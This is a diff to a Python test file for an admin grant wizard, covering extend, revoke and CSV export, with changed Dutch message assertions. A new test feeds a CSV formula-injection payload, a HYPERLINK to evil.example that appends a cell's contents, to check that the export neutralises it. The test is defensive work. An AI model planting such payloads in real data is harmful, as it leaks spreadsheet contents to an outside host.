@@ -1,7 +1,9 @@
 """Task 5: the grant wizard (right, period prefilled at the maximum, reason, confirm), extend
 (too long: say so and offer to start today; future start: pending warning, R6), revoke with a
 reason, and the grant search with CSV export."""
+import csv
 import html
+import io
 from datetime import timedelta
 
 from admin_support import post, sign_in
@@ -52,7 +54,7 @@ def test_confirm_with_a_future_start_warns_about_pending(client, db):
     start = today + timedelta(days=5)
     page = wizard(client, rel.id, step="reason", right="demo-app-admin", start=start.isoformat(),
                   end=(start + timedelta(days=10)).isoformat())
-    assert "pas actief vanaf" in text(page)
+    assert "pas toegekend vanaf" in text(page)
 
 
 def test_wizard_refusals_change_nothing(client, db):
@@ -103,11 +105,11 @@ def test_extend_with_a_future_start_warns_that_the_grant_is_pending(client, db):
     start = today + timedelta(days=3)
     check = post(client, f"/admin/grants/{grant.id}/extend", {
         "step": "check", "start": start.isoformat(), "end": (start + timedelta(days=30)).isoformat()})
-    assert "niet actief (toekomstig)" in text(check)
+    assert "geen toegang meer" in text(check)
     done = post(client, f"/admin/grants/{grant.id}/extend", {
         "step": "confirm", "start": start.isoformat(), "end": (start + timedelta(days=30)).isoformat()})
     assert done.status_code == 302
-    assert "pas actief vanaf" in text(client.get(done.location))
+    assert "pas toegekend vanaf" in text(client.get(done.location))
 
 
 def test_revoke_with_reason(client, db):
@@ -120,7 +122,7 @@ def test_revoke_with_reason(client, db):
     revoked = db.get(type(grant), grant.id)
     assert state_of(revoked, today) == "revoked" and revoked.revoke_reason == "opdracht af"
     again = post(client, f"/admin/grants/{grant.id}/revoke", {"reason": "nog eens"})
-    assert again.status_code == 422 and "ingetrokken" in text(again)
+    assert again.status_code == 422 and "herroepen" in text(again)
 
 
 def test_search_by_state_and_reference_date_and_csv(client):
@@ -137,3 +139,15 @@ def test_search_by_state_and_reference_date_and_csv(client):
     lines = exported.get_data(as_text=True).splitlines()
     assert lines[0].startswith("id,rrn,name,government,right")
     assert any(BART in line for line in lines) and all("44086" not in line for line in lines)
+
+
+def test_the_csv_export_neutralises_a_reason_that_is_a_formula(client, db):
+    """A reason typed as `=HYPERLINK(…)` opens in a spreadsheet as text, not as a live link."""
+    formula = '=HYPERLINK("https://evil.example/?"&A2,"klik")'
+    grants.add(db, actor(db, AN), CHRIS, MERELBEKE, "demo-app-reader", reason=formula)
+    db.commit()
+    sign_in(client, AN, MERELBEKE)
+    exported = client.get("/admin/grants.csv?state=active").get_data(as_text=True)
+    rows = list(csv.DictReader(io.StringIO(exported)))
+    reasons = [r["reason"] for r in rows if r["rrn"] == CHRIS and r["right"] == "demo-app-reader"]
+    assert reasons == ["'" + formula]
